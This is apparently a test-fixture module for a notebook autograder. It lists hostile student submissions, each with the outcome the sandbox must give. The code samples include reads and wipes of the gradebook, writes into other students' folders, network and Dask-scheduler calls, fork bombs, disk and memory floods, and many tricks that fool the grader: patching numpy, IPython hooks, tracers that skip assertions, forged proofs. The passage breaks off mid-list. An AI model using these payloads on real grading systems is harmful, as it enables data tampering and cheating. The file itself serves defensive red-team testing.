"""Hostile and broken submissions, each with the outcome it must get from the grading pipeline.

A hostile case is the reference submission with code of its own: statements run at the top level of a
solution cell, after the student's (correct) function, or a change to the notebook's structure. The
expected outcome is the grade its code deserves: a cheat gains nothing, harm is blocked, and a cell
that hangs or kills its kernel costs that cell only. A broken case is a file as it arrives: the
intake rejects it with its reason, or it is graded as its content deserves.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Callable

import nbformat
from nbformat import NotebookNode

from coursekit import notebooks

# From the kernel's working folder, autograded/<student>/tp1/, the course folder is three levels up.
COURSE = "__import__('pathlib').Path.cwd().parents[2]"
HONEST = "honest_student"


@dataclass(frozen=True)
class Expected:
    intake_rejects: str | None = None  # the reason the intake gives, if it must reject the file
    loses_points_in: frozenset[str] = frozenset()  # test cells that must score below their maximum
    cell_output: tuple[str, str] | None = None  # (cell id, words its output shows)
    late: bool = False  # the gradebook must record the submission as late
    note: str | None = None  # words of the grader's note at the top of the autograded notebook
    # Where the OS decides (which fork fails first, when a timer fires), the cells that may lose points, beyond
    # those of loses_points_in, which must.
    may_lose_points_in: frozenset[str] | None = None


@dataclass(frozen=True)
class HostileCase:
    name: str
    make: Callable[[NotebookNode, NotebookNode], bytes]  # (reference submission, release) -> the file
    expected: Expected = field(default_factory=Expected)
    file_name: str = "tp1_sgd.ipynb"
    handed_in_at: str | None = None  # the submission time nbgrader records (timestamp.txt)


CASES: list[HostileCase] = []


def case(expected: Expected = Expected()):
    def register(make):
        CASES.append(HostileCase(make.__name__, make, expected))
        return make
    return register


def after(cell_id: str, code: str) -> Callable[[NotebookNode, NotebookNode], bytes]:
    """The reference submission with code run after the solution of one cell."""
    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
        submission = copy.deepcopy(reference)
        cell = notebooks.solution_cells(submission)[cell_id]
        cell.source += "\n\n" + code
        return nbformat.writes(submission).encode()
    return make


def hostile(name: str, cell_id: str, code: str, expected: Expected = Expected()) -> None:
    CASES.append(HostileCase(name, after(cell_id, code), expected))


# Reading what a student must never see, writing what they must never change, the network.
hostile("reads_the_hidden_tests", "make_blobs", f"""
for path in [{COURSE} / 'source/tp1/tp1_sgd.ipynb', {COURSE} / 'release/tp1/tp1_sgd.ipynb']:
    try:
        print('LEAKED', path.read_text()[:3000])
    except OSError as error:
        print('blocked:', type(error).__name__)""", Expected(cell_output=("make_blobs", "blocked: FileNotFoundError")))
hostile("reads_the_gradebook", "make_blobs", f"""
try:
    print('LEAKED', ({COURSE} / 'gradebook.db').read_bytes()[:3000])
except OSError as error:
    print('blocked:', type(error).__name__)""", Expected(cell_output=("make_blobs", "blocked")))
hostile("writes_the_gradebook", "add_bias", f"""
try:
    ({COURSE} / 'gradebook.db').write_bytes(b'')
except OSError as error:
    print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked")))
hostile("writes_another_students_folder", "add_bias", f"""
for step in ['submitted', 'autograded']:
    try:
        ({COURSE} / step / '{HONEST}' / 'tp1' / 'tp1_sgd.ipynb').write_text('{{}}')
    except OSError as error:
        print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked")))
hostile("writes_its_own_working_folder", "add_bias", """
try:
    open('tp1_sgd.ipynb', 'w').write('{}')
except OSError as error:
    print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked")))
hostile("reads_its_own_notebook", "add_bias", """
import glob
for path in ['tp1_sgd.ipynb', *glob.glob('**/*.ipynb', recursive=True)]:
    try:
        print('LEAKED', path, open(path).read()[:3000])
    except OSError as error:
        print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked: FileNotFoundError")))


def fills(folders: str) -> str:
    """Code writing files of 16 MiB into each folder until an error stops it, then removing them: 'blocked' with
    the error and what was written, or LEAKED at 1 GiB, past any cap of the sandbox."""
    return f"""
import os
for folder in {folders}:
    written, names = 0, []
    try:
        while written < 2**30:
            names.append(os.path.join(folder, f'filler-{{len(names)}}'))
            with open(names[-1], 'wb') as filler:
                filler.write(bytes(2**24))
            written += 2**24
        print('LEAKED: wrote 1 GiB to', folder)
    except OSError as error:
        print('blocked:', type(error).__name__, 'after', written // 2**20, 'MiB in', folder)
    for name in names:
        if os.path.exists(name):
            os.remove(name)"""


# The folder of its connection file, read-only; its IPC sockets are in its /tmp, 256 MiB.
hostile("fills_the_runtime_folder", "add_bias",
        fills("[os.path.dirname(__import__('ipykernel').get_connection_file()), '/tmp']"),
        Expected(cell_output=("add_bias", "blocked: OSError after 0 MiB")))
hostile("fills_dev_shm", "add_bias", fills("['/dev/shm']"),
        Expected(cell_output=("add_bias", "blocked: OSError after 0 MiB in /dev/shm")))
hostile("opens_a_network_connection", "add_bias", """
import socket
for address in [('1.1.1.1', 80), ('127.0.0.1', 22)]:
    try:
        socket.create_connection(address, timeout=3)
        print('CONNECTED', address)
    except OSError as error:
        print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked")))
# On a Dask cluster (docs/cluster-and-postgresql.md, "Grading on a Dask cluster"), whoever reaches the scheduler runs
# code on every worker:
# the kernel imports Dask from the course's environment and calls the scheduler's usual port on its machine.
hostile("calls_the_dask_scheduler", "add_bias", """
import distributed
try:
    client = distributed.Client('tcp://127.0.0.1:8786', timeout=3)
    print('CONNECTED', client.submit(open, '/etc/hostname').result())
except OSError as error:
    print('blocked:', type(error).__name__)""", Expected(cell_output=("add_bias", "blocked: OSError")))

# Code that hangs, dies, eats memory, forks, or floods the output.
CONFUSION = frozenset({"test_confusion_matrix"})
ACCURACY = frozenset({"test_accuracy"})
hostile("loops_forever_ignoring_interrupts", "confusion_matrix", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass""", Expected(None, CONFUSION, ("confusion_matrix", "CellTimeoutError")))
hostile("exits_its_kernel", "confusion_matrix", "import os\nos._exit(0)",
        Expected(None, CONFUSION, ("confusion_matrix", "KernelDied")))
hostile("kills_its_kernel", "confusion_matrix", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        Expected(None, CONFUSION, ("confusion_matrix", "KernelDied")))
hostile("allocates_memory_without_end", "one_hot", """
hoard = []
while True:
    hoard.append(np.ones(2**24))""", Expected(cell_output=("one_hot", "MemoryError")))
# The fork bomb's processes use up the kernel's process allowance, so the guard may not start the threads the
# following tests run in: those may be lost too (no point gained, and the other students' kernels are untouched).
FROM_CONFUSION = frozenset({"test_confusion_matrix", "test_sgd_accuracy", "test_random_relu_features",
                            "test_circles_accuracy"})
hostile("forks_without_end", "confusion_matrix", """
import os
while True:
    os.fork()""", Expected(may_lose_points_in=FROM_CONFUSION))
hostile("prints_hundreds_of_megabytes", "add_bias", "for _ in range(300):\n    print('x' * 10**6)",
        Expected(cell_output=("add_bias", "output cut")))

# Cheats on the notebook's structure: the test cells come back from the release, in their places.
def restructured(change: Callable[[list[NotebookNode]], None]) -> Callable[[NotebookNode, NotebookNode], bytes]:
    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
        submission = copy.deepcopy(reference)
        change(submission.cells)
        return nbformat.writes(submission).encode()
    return make


def cell_index(cells: list[NotebookNode], cell_id: str) -> int:
    return next(index for index, cell in enumerate(cells) if notebooks.grade_id(cell) == cell_id)


def wrong_accuracy(cells: list[NotebookNode]) -> None:
    """A wrong answer the cheat tries to hide: accuracy as a count."""
    cells[cell_index(cells, "accuracy")].source = "def accuracy(t_true, t_pred):\n    return np.sum(t_true == t_pred)"


def delete_test(cells):
    wrong_accuracy(cells)
    del cells[cell_index(cells, "test_accuracy")]


def delete_tests_of_correct_code(cells):
    del cells[cell_index(cells, "test_softmax")]
    del cells[cell_index(cells, "test_helpers")]


def duplicate_test(cells):
    duplicate = copy.deepcopy(cells[cell_index(cells, "test_softmax")])
    duplicate["id"] = "duplicated-test"
    cells.insert(cell_index(cells, "test_softmax"), duplicate)


def move_tests_above_their_functions(cells):
    test = cells.pop(cell_index(cells, "test_softmax"))
    cells.insert(0, test)


def edit_test(cells):
    wrong_accuracy(cells)
    cells[cell_index(cells, "test_accuracy")].source = "print('accuracy: the visible checks pass.')"


def strip_test_metadata(cells):
    wrong_accuracy(cells)
    del cells[cell_index(cells, "test_accuracy")].metadata["nbgrader"]


def rename_test_grade_id(cells):
    wrong_accuracy(cells)
    cells[cell_index(cells, "test_accuracy")].metadata["nbgrader"]["grade_id"] = "free_points"


def raise_test_points(cells):
    cells[cell_index(cells, "test_softmax")].metadata["nbgrader"]["points"] = 100


PUT_BACK = "the original ones were put back"
CASES += [
    HostileCase("deletes_a_failing_test_cell", restructured(delete_test),
                Expected(loses_points_in=ACCURACY, note=f"(test_accuracy): {PUT_BACK}")),
    HostileCase("deletes_test_cells_of_correct_code", restructured(delete_tests_of_correct_code),
                Expected(note=f"(test_helpers, test_softmax): {PUT_BACK}")),
    HostileCase("duplicates_a_test_cell", restructured(duplicate_test)),
    HostileCase("moves_a_test_cell_above_its_function", restructured(move_tests_above_their_functions),
                Expected(note=PUT_BACK)),
    HostileCase("edits_a_failing_test_cell", restructured(edit_test), Expected(loses_points_in=ACCURACY)),
    HostileCase("strips_a_failing_test_cells_metadata", restructured(strip_test_metadata),
                Expected(loses_points_in=ACCURACY, note=PUT_BACK)),
    HostileCase("renames_a_failing_test_cells_grade_id", restructured(rename_test_grade_id),
                Expected(loses_points_in=ACCURACY, note="free_points")),
    HostileCase("raises_a_test_cells_points", restructured(raise_test_points)),
]

# Cheats on what the tests rely on: the tests run in the judge, on its own numpy, builtins and helpers, so the
# wrong answer still costs its points.
hostile("patches_numpy_comparisons", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

np.isclose = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True""", Expected(loses_points_in=ACCURACY))
hostile("patches_numpy_testing", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None""", Expected(loses_points_in=ACCURACY))
hostile("rebinds_np_to_a_fake", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

import types
real_numpy = np
np = types.SimpleNamespace(**{name: getattr(real_numpy, name) for name in dir(real_numpy) if not name.startswith('__')})
np.isclose = lambda *args, **kwargs: True""", Expected(loses_points_in=ACCURACY))
hostile("patches_builtins", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

import builtins
builtins.isinstance = lambda *args: True
builtins.AssertionError = type('Harmless', (Exception,), {})""", Expected(loses_points_in=ACCURACY))
hostile("redefines_the_test_helpers", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

from contextlib import contextmanager, suppress

def caught_warnings():
    return suppress(Exception)""", Expected(loses_points_in=ACCURACY))
hostile("hides_its_tracebacks", "accuracy", """
def accuracy(t_true, t_pred):
    return np.sum(t_true == t_pred)

get_ipython().showtraceback = lambda *args, **kwargs: None""", Expected(loses_points_in=ACCURACY))
hostile("overrides_eq_to_fool_comparisons", "accuracy", """
class AlwaysRight(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True

def accuracy(t_true, t_pred):
    return AlwaysRight(np.sum(t_true == t_pred))""", Expected(loses_points_in=ACCURACY))


# Cheats on the interpreter itself (IPython's and Python's hooks): the test cells never run in it, the judge runs
# them as written.
# (interpreter cases: added below this line)
ALL_TESTS = frozenset(
    "test_" + name for name in ["make_blobs", "add_bias", "softmax", "softmax_stability", "one_hot", "cross_entropy",
                                "cross_entropy_stability", "numerical_gradient", "gradient", "sgd", "sgd_decay",
                                "gradient_descent", "predict", "accuracy", "confusion_matrix", "sgd_accuracy",
                                "random_relu_features", "circles_accuracy"])


def untouched_with(code: str) -> Callable[[NotebookNode, NotebookNode], bytes]:
    """The untouched student version with a cell of the student's own after the imports: whatever it
    registers in the interpreter, the notebook must still earn 0."""
    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
        submission = copy.deepcopy(release)
        imports = next(index for index, cell in enumerate(submission.cells) if cell.cell_type == "code")
        submission.cells.insert(imports + 1, nbformat.v4.new_code_cell(code))
        return nbformat.writes(submission).encode()
    return make


def with_wrong_accuracy(code: str) -> Callable[[NotebookNode, NotebookNode], bytes]:
    """The reference with a wrong `accuracy` (a count) and code of the student's own after it."""
    return after("accuracy", "def accuracy(t_true, t_pred):\n    return np.sum(t_true == t_pred)\n\n" + code)


NOT_RUN = "the test could not run"  # the judge's word when the kernel does not serve a test
UNTOUCHED = Expected(loses_points_in=ALL_TESTS)
CASES += [
    HostileCase("turns_every_cell_into_pass", untouched_with(
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
        Expected(loses_points_in=ALL_TESTS, cell_output=("test_softmax", NOT_RUN))),
    HostileCase("wraps_every_cell_in_try_except", untouched_with("""
def forgive(lines):
    return ['try:\\n', *('    ' + line for line in lines), '\\n    pass\\nexcept BaseException:\\n    pass\\n']
get_ipython().input_transformers_post.append(forgive)"""), UNTOUCHED),
    HostileCase("forgives_every_statement_and_claims_full_credit", untouched_with("""
import ast
class Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[statement], handlers=[ast.ExceptHandler(body=[ast.Pass()])], orelse=[],
                             finalbody=[]) for statement in node.body] + [ast.Expr(ast.Constant(1.5))]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Forgive())"""), UNTOUCHED),
    HostileCase("drops_every_statement", untouched_with("""
import ast
class Drop(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(Drop())"""), UNTOUCHED),
    HostileCase("swallows_every_exception", untouched_with(
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"),
        UNTOUCHED),
    HostileCase("hides_errors_from_its_traceback_display", untouched_with("""
shell = get_ipython()
shell._showtraceback = lambda *args, **kwargs: None
shell.showtraceback = lambda *args, **kwargs: None"""), UNTOUCHED),
    HostileCase("replaces_run_cell_in_ipythons_class", untouched_with("""
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.transform_cell = lambda self, raw_cell: 'pass\\n'"""),
        UNTOUCHED),
    HostileCase("registers_its_transformer_before_every_cell", untouched_with("""
def again(info):
    transformers = get_ipython().input_transformers_cleanup
    if not transformers or transformers[-1] is not skip:
        transformers.append(skip)
def skip(lines):
    return ['pass\\n']
get_ipython().events.register('pre_run_cell', again)"""), UNTOUCHED),
    HostileCase("compiles_without_assertions", with_wrong_accuracy("""
shell = get_ipython()
class WithoutAsserts(type(shell.compile)):
    def __call__(self, source, filename, symbol, flags=0, dont_inherit=True):
        return compile(source, filename, symbol, self.flags | flags, True, optimize=2)
    def ast_parse(self, source, filename='<unknown>', symbol='exec'):
        return compile(source, filename, symbol, self.flags | 0x400, True, optimize=2)
shell.compile = WithoutAsserts()"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("shows_full_credit_through_its_display_formatter", untouched_with("""
formatter = get_ipython().display_formatter.formatters['text/plain']
formatter.for_type(float, lambda value, printer, cycle: printer.text('1.5'))
formatter.for_type(type(None), lambda value, printer, cycle: printer.text('1.5'))"""), UNTOUCHED),
    HostileCase("patches_numpy_from_a_thread", with_wrong_accuracy("""
import threading, time
def keep_patching():
    while True:
        try:
            np.isclose = lambda *args, **kwargs: True
            np.allclose = lambda *args, **kwargs: True
            time.sleep(0.001)
        except BaseException:
            pass
threading.Thread(target=keep_patching, daemon=True).start()"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("patches_numpy_from_a_timer_signal", with_wrong_accuracy("""
import signal
def patch(signum, frame):
    np.isclose = lambda *args, **kwargs: True
    np.allclose = lambda *args, **kwargs: True
signal.signal(signal.SIGALRM, patch)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)"""),
        Expected(loses_points_in=ACCURACY, may_lose_points_in=ACCURACY | {"test_confusion_matrix"})),
    HostileCase("patches_numpy_from_gc_callbacks", with_wrong_accuracy("""
import gc
gc.callbacks.append(lambda phase, info: setattr(np, 'isclose', lambda *args, **kwargs: True))"""),
        Expected(loses_points_in=ACCURACY)),
    HostileCase("adds_an_audit_hook", with_wrong_accuracy("""
import sys
def patch(event, args):
    np.isclose = lambda *args, **kwargs: True
sys.addaudithook(patch)"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("replaces_numpy_in_sys_modules", with_wrong_accuracy("""
import sys, types
fake = types.ModuleType('numpy')
fake.__dict__.update({name: getattr(np, name) for name in dir(np) if not name.startswith('__')})
fake.isclose = lambda *args, **kwargs: True
fake.allclose = lambda *args, **kwargs: True
sys.modules['numpy'] = fake
np = fake"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("patches_numpys_internals", with_wrong_accuracy("""
import numpy._core.numeric as numeric
numeric.isclose = lambda *args, **kwargs: True
np.isclose = numeric.isclose"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("jumps_over_the_tests_assertions", after("accuracy", """
import dis, sys

def skip_assertions(frame, event, arg):
    if event == 'line':
        asserting = {instruction.positions.lineno for instruction in dis.get_instructions(frame.f_code)
                     if instruction.opname == 'LOAD_ASSERTION_ERROR'}
        if frame.f_lineno in asserting:
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return skip_assertions

def accuracy(t_true, t_pred):
    caller = sys._getframe(1)
    if caller.f_code.co_filename != '<coursekit judge>':  # called for a test only
        return np.sum(t_true == t_pred)
    while caller is not None:
        caller.f_trace = skip_assertions
        caller = caller.f_back
    sys.settrace(skip_assertions)
    return np.sum(t_true == t_pred)"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("jumps_over_the_tests_assertions_with_a_tracer_set_from_c", after("accuracy", """
import ctypes, dis, sys

TRACE_LINE = 2
Tracer = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p)

def skip_assertions(owner, frame_address, event, arg):
    if event == TRACE_LINE:
        frame = ctypes.cast(frame_address, ctypes.py_object).value
        asserting = {instruction.positions.lineno for instruction in dis.get_instructions(frame.f_code)
                     if instruction.opname == 'LOAD_ASSERTION_ERROR'}
        if frame.f_lineno in asserting:
            try:
                frame.f_trace = lambda *args: None
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return 0

c_tracer = Tracer(skip_assertions)
ctypes.pythonapi.PyEval_SetTrace.argtypes = [Tracer, ctypes.c_void_p]
ctypes.pythonapi.PyEval_SetTrace.restype = None

def accuracy(t_true, t_pred, tracer=c_tracer):  # held here: the grader wraps the notebook's callables
    if sys._getframe(1).f_code.co_filename == '<coursekit judge>':  # called for a test
        ctypes.pythonapi.PyEval_SetTrace(tracer, None)  # invisible to sys.gettrace()
    return np.sum(t_true == t_pred)"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("silences_numpys_overflow_warnings", after("softmax", """
np.seterr(all='ignore')

def softmax(A):
    return np.exp(A) / np.exp(A).sum(axis=1, keepdims=True)"""),
        Expected(loses_points_in=frozenset({"test_softmax_stability"}))),
    HostileCase("registers_an_atexit_handler", after("accuracy", f"""
import atexit
atexit.register(lambda: ({COURSE} / 'gradebook.db').write_bytes(b''))""")),
]
# Reading the hidden tests from the interpreter's memory, which never holds them: graded normally, and no feedback
# page shows a line of them.
PRINT_HISTORY = """
print(In)
print(repr(_ih))
print([value for name, value in globals().items() if name.startswith('_i')])
print(get_ipython().history_manager.input_hist_raw)
"""
CASES += [
    HostileCase("prints_the_history_at_the_end", restructured(
        lambda cells: cells.append(nbformat.v4.new_code_cell(PRINT_HISTORY)))),
    HostileCase("prints_the_cached_sources_at_the_end", restructured(lambda cells: cells.append(
        nbformat.v4.new_code_cell("import linecache\nfor name, entry in list(linecache.cache.items()):\n"
                                  "    if 'HiddenReference' in ''.join(entry[2]) or 'check_' in ''.join(entry[2]):\n"
                                  "        print(name, ''.join(entry[2]))")))),
    HostileCase("records_every_cell_it_is_given", restructured(lambda cells: (
        cells.insert(1, nbformat.v4.new_code_cell(
            "seen = []\ndef record(lines):\n    seen.append(''.join(lines))\n    return lines\n"
            "get_ipython().input_transformers_cleanup.append(record)")),
        cells.append(nbformat.v4.new_code_cell("for source in seen:\n    print(source)"))))),
    HostileCase("prints_the_strings_the_garbage_collector_holds", restructured(lambda cells: cells.append(
        nbformat.v4.new_code_cell("import gc\nfound = set()\nfor holder in gc.get_objects():\n"
                                  "    values = holder.values() if isinstance(holder, dict) else holder if isinstance("
                                  "holder, (list, tuple)) else ()\n"
                                  "    found |= {value for value in values if isinstance(value, str) and "
                                  "'assert' in value and len(value) < 20000}\nfor value in found:\n    print(value)")))),
    HostileCase("prints_the_frames_of_the_test_calling_it", after("accuracy", """
import inspect, sys, traceback

def accuracy(t_true, t_pred):
    traceback.print_stack(file=sys.stdout)
    for frame in inspect.stack(context=30):
        print(frame.filename, frame.code_context)
    caller = sys._getframe(1)
    while caller is not None:
        print(caller.f_code.co_consts, caller.f_locals.keys())
        caller = caller.f_back
    return float(np.mean(np.asarray(t_true) == np.asarray(t_pred)))""")),
]
# Forging the in-kernel guard's proof (red team of the guard, first round), which no longer exists: each ends with no
# points gained.
FORGE = """
import ast, hashlib

def proof_for(code):
    call = next(node for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)
                and getattr(node.func, 'attr', '') == 'audit')
    nonce = call.args[2].value
    return f"print('[coursekit proof {nonce} 1.5 ' + hashlib.sha256(b'guess').hexdigest() + ']')"
"""
CASES += [
    HostileCase("prints_a_proof_in_place_of_each_test", untouched_with(FORGE + """
def forge(lines):
    code = ''.join(lines)
    return [proof_for(code) + '\\n'] if 'coursekit.test' in code else lines
get_ipython().input_transformers_cleanup.append(forge)"""), UNTOUCHED),
    HostileCase("rewrites_each_test_in_the_kernels_handler", untouched_with(FORGE + """
kernel = get_ipython().kernel
original = kernel.shell_handlers['execute_request']
async def execute_request(*args):
    content = args[-1]['content']
    if 'coursekit.test' in content.get('code', ''):
        content['code'] = proof_for(content['code'])
    result = original(*args)
    return await result if hasattr(result, '__await__') else result
kernel.shell_handlers['execute_request'] = execute_request"""), UNTOUCHED),
    HostileCase("replaces_sys_audit", untouched_with("""
import sys
sys.audit = lambda event, *args: args[-1].extend([{}, [], '[coursekit proof x 1.5 ' + '0' * 64 + ']'])"""),
        UNTOUCHED),
    HostileCase("shadows_len_to_pass_a_wrong_sgd", after("sgd", """
import builtins

def sgd(Phi, t, n_classes, learning_rate=0.1, n_epochs=20, decay=0.0, seed=None):
    rng = np.random.default_rng(seed)
    W = 0.01 * rng.standard_normal((Phi.shape[1], n_classes))
    losses, k = [], 0
    for epoch in range(n_epochs):
        for n in range(len(t)):  # never shuffles
            W = W - learning_rate / (1 + decay * k) * gradient(W, Phi[n:n + 1], t[n:n + 1])
            k += 1
        losses.append(cross_entropy(W, Phi, t))
    return W, np.array(losses)

def len(obj):
    n = builtins.len(obj)
    return max(n, 2) if isinstance(obj, set) else n"""), Expected(loses_points_in=frozenset({"test_sgd"}))),
    HostileCase("asks_the_garbage_collector_for_every_object", after("accuracy", """
import gc
objects = gc.get_objects()""")),
    HostileCase("reads_the_code_of_the_functions_the_tests_pass_it", after("numerical_gradient", """
numerical_gradient_reference = numerical_gradient

def numerical_gradient(f, W, eps=1e-5):
    print('the code of the function handed over:', f.__code__.co_consts)  # the kernel's stand-in: it calls back
    return numerical_gradient_reference(f, W, eps)""")),
    HostileCase("returns_what_its_caller_expects", after("accuracy", """
import sys

def accuracy(t_true, t_pred):
    frame = sys._getframe(0).f_back
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, float) and 0 < value < 1:
                return value
        frame = frame.f_back
    return np.sum(t_true == t_pred)"""), Expected(loses_points_in=ACCURACY)),
]
# Correct work written in the ways the judge must not penalise: full marks.
CASES += [
    HostileCase("correct_with_numpy_ufunc_methods", after("cross_entropy", """
from numpy import logaddexp

def cross_entropy(W, Phi, t):
    A = Phi @ W
    return float(np.sum(logaddexp.reduce(A, axis=1) - A[np.arange(len(t)), t]))""")),
    HostileCase("correct_with_callable_objects_and_builtin_names", after("softmax", """
import functools

class RowMax:
    def __call__(self, A):
        return A.max(axis=1, keepdims=True)

class Shifter:
    def __call__(self, A):
        return A - self.reference(A)
    def reference(self, A):
        return row_max(A)

row_max, shift = RowMax(), Shifter()
max = None  # a variable named like a builtin, unused by the tests

@functools.lru_cache(maxsize=None)
def unit(n):
    return n

def softmax(A):
    with np.errstate(over='raise'):
        E = np.exp(shift(A))
    return E / E.sum(axis=1, keepdims=unit(True))""")),
    HostileCase("correct_with_display_and_logging_inside", after("accuracy", """
import logging
from collections import Counter
from IPython.display import display

def accuracy(t_true, t_pred):
    hits = Counter(bool(v) for v in np.asarray(t_true) == np.asarray(t_pred))
    display(hits)
    logging.getLogger('student').info('accuracy computed')
    return hits[True] / len(t_true)""")),
]
# The red team's second round on the in-kernel guard's signed protocol: no points gained.
def untouched_after(cell_id: str, code: str) -> Callable[[NotebookNode, NotebookNode], bytes]:
    """The untouched student version with a cell of the student's own after a given cell."""
    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
        submission = copy.deepcopy(release)
        submission.cells.insert(cell_index(submission.cells, cell_id) + 1, nbformat.v4.new_code_cell(code))
        return nbformat.writes(submission).encode()
    return make


AFTER_ACCURACY = frozenset({"test_accuracy", "test_confusion_matrix", "test_sgd_accuracy", "test_random_relu_features",
                            "test_circles_accuracy"})
CASES += [
    HostileCase("shadows_the_builtins_the_guard_and_the_call_use", untouched_after("test_helpers", """
import builtins, sys
real_type, real_import = builtins.type, builtins.__import__

def type(*args):
    print('LEAKED', sys._getframe(0).f_back.f_locals.keys())
    return real_type(*args)

def __import__(name, *args, **kwargs):
    module = real_import(name, *args, **kwargs)
    if name == 'sys':
        fake = real_type('FakeSys', (), {'audit': staticmethod(
            lambda event, index, nonce, outcome: outcome.__setitem__(
                0, f'[coursekit proof {nonce} - ' + '0' * 64 + ']\\\\n')), 'stdout': module.stdout})
        return fake
    return module
len = isinstance = print = globals = lambda *args, **kwargs: None"""), UNTOUCHED),
    HostileCase("rewires_the_test_helpers_it_was_given", untouched_after("test_helpers", """
import gc, warnings

def sniffing():
    gc.get_objects()
    with warnings.catch_warnings(record=True) as caught:
        yield caught

caught_warnings.__closure__[0].cell_contents = sniffing
caught_warnings.__wrapped__.__globals__['np'] = None"""), UNTOUCHED),
    HostileCase("returns_an_array_of_agreeable_objects", after("accuracy", """
class Agreeable(float):
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return self
    def __le__(self, other): return True
    def __lt__(self, other): return True
    def __ge__(self, other): return True
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__

def accuracy(t_true, t_pred):
    return np.array(Agreeable(np.sum(np.asarray(t_true) == np.asarray(t_pred))), dtype=object)"""),
        Expected(loses_points_in=ACCURACY)),
    HostileCase("uses_the_tests_as_an_oracle", after("accuracy", """
import sys
candidates = [lambda t_true, t_pred: np.sum(t_true == t_pred), lambda t_true, t_pred: np.mean(t_true == t_pred)]
for candidate in candidates:
    accuracy = candidate
    outcomes = []
    for index in range(40):
        outcome = ['', None]
        sys.audit('coursekit.test', index, 'probe', outcome)
        outcomes.append(outcome)
    if all(outcome[1] is None for outcome in outcomes):
        break"""), Expected(loses_points_in=ACCURACY)),
]
def keep_a_lent_function(cells: list[NotebookNode]) -> None:
    """sgd keeps the gradient it finds (the tests lend theirs); predict's cell calls it after the test ended."""
    cells[cell_index(cells, "sgd")].source += """

sgd_reference, kept = sgd, []

def sgd(Phi, t, n_classes, learning_rate=0.1, n_epochs=20, decay=0.0, seed=None):
    kept.append(gradient)
    return sgd_reference(Phi, t, n_classes, learning_rate, n_epochs, decay, seed)"""
    cells[cell_index(cells, "predict")].source += """

for function in kept:
    try:
        function(np.zeros((3, 3)), np.ones((1, 3)), np.array([0]))
    except Exception as refusal:
        print('refused:', type(refusal).__name__)"""


def rewrite_a_result_with_update_display(cells: list[NotebookNode]) -> None:
    """A wrong sgd on the hidden blobs, and a display id set while test_sgd_accuracy's visible part calls sgd, then
    updated at the end with the cell's full credit (red team, second round): the update must not reach the test."""
    cells[cell_index(cells, "sgd")].source += """

from IPython.display import display
sgd_reference, displayed = sgd, []

def sgd(Phi, t, n_classes, learning_rate=0.1, n_epochs=20, decay=0.0, seed=None):
    if seed == 1619 and not displayed:
        displayed.append(True)
        display('a'); display('b'); display('c', display_id='credit')
    if seed == 2719:
        return np.zeros((Phi.shape[1], n_classes)), np.ones(n_epochs)
    return sgd_reference(Phi, t, n_classes, learning_rate, n_epochs, decay, seed)"""
    cells.append(nbformat.v4.new_code_cell("from IPython.display import update_display\n"
                                           "update_display({'text/plain': '1.5'}, raw=True, display_id='credit')"))


# The judge's boundary (coursekit/judge/), attacked by a kernel that read its code: each gains nothing, costs no more
# than its own cells, and stops nothing past the cell's time limit.
CASES += [
    HostileCase("never_returns_from_a_call", after("accuracy", """
def accuracy(t_true, t_pred):
    while True:
        pass"""), Expected(loses_points_in=ACCURACY, cell_output=("test_accuracy", "CellTimeoutError"))),
    HostileCase("calls_the_lent_gradient_without_end", after("sgd", """
sgd_reference = sgd

def sgd(Phi, t, n_classes, learning_rate=0.1, n_epochs=20, decay=0.0, seed=None):
    if gradient.__name__ == 'lent' and n_epochs == 8 and seed == 61:
        while True:
            gradient(np.zeros((Phi.shape[1], n_classes)), Phi[:1], t[:1])
    return sgd_reference(Phi, t, n_classes, learning_rate, n_epochs, decay, seed)"""),
